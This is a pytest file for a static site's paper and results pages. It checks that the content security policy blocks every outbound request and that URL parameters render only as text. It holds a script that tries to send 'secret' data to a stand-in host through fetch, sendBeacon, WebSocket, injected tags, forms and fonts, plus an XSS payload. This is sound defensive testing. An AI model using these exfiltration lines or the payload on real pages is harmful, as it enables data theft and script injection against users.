"""What a page may do: nothing reaches outside, even if something in it tries; the address enters as text only."""

from __future__ import annotations

from urllib.parse import quote

import pytest

PAGES = (
    "index.html",
    "paper/index.html",
    "paper/talk.html",
    "paper/results/leaderboard.html",
    "paper/results/sql.html",
)
#: each tries to reach another host in its own way; what was refused by the page's policy is kept in `refused`
ATTEMPTS = """async () => {
  const refused = [];
  addEventListener("securitypolicyviolation", (e) => refused.push(e.effectiveDirective));
  const out = "https://outside.example/";
  const add = (tag, attributes) => document.body.append(Object.assign(document.createElement(tag), attributes));
  await fetch(out).catch(() => {});
  await fetch(out, {method: "POST", body: "secret", mode: "no-cors"}).catch(() => {});
  navigator.sendBeacon(out, "secret");
  try { new WebSocket("wss://outside.example/"); } catch {}
  add("img", {src: out + "pixel.png"});
  add("script", {src: out + "script.js"});
  add("link", {rel: "stylesheet", href: out + "style.css"});
  add("iframe", {src: out});
  add("object", {data: out});
  const form = Object.assign(document.createElement("form"), {action: out, method: "post"});
  document.body.append(form);
  form.submit();
  const style = document.createElement("style");
  style.textContent = `@font-face { font-family: x; src: url(${out}font.woff2) } body { font-family: x }`;
  document.head.append(style);
  await document.fonts.load("12px x").catch(() => {});
  await import(out + "module.js").catch(() => {});
  await new Promise((done) => setTimeout(done, 500));
  return [...new Set(refused)];
}"""
PAYLOAD = "<img src=x onerror=\"document.title='hacked'\"><script>document.title='hacked'</script>"


@pytest.mark.parametrize("path", PAGES)
def test_a_page_cannot_reach_outside_whatever_is_in_it(visit, path: str) -> None:
    visit.open(path)
    refused = set(visit.page.evaluate(ATTEMPTS))
    breaches = [problem for problem in visit.wrong if problem.startswith("asked for")]
    assert breaches == []
    directives = {"connect-src", "img-src", "script-src-elem", "style-src-elem", "frame-src", "font-src", "form-action"}
    assert directives <= refused, directives - refused
    visit.wrong.clear()  # the browser tells of each refusal in its console


@pytest.mark.parametrize(
    "path",
    [
        "paper/results/leaderboard.html?metric={0}&dataset={0}&protocol={0}",
        "paper/results/graph.html?window={0}&arrows={0}",
        "paper/results/errors.html?threshold={0}&model={0}",
        "paper/results/sql.html?q=select+'{0}'+as+x&view={0}",
        "paper/results/runs.html?run={0}#{0}",
    ],
)
def test_the_address_is_text(visit, path: str) -> None:
    visit.open(path.format(quote(PAYLOAD.replace("'", "''") if "sql" in path else PAYLOAD)))
    if "sql" in path:
        visit.page.get_by_role("button", name="Run").click()
        visit.page.locator(".kdgat-result td").wait_for(timeout=20_000)
        assert visit.page.locator(".kdgat-result td").text_content() == PAYLOAD
    visit.page.wait_for_timeout(200)
    assert visit.page.title() != "hacked"
    assert visit.page.locator("img[src=x]").count() == 0
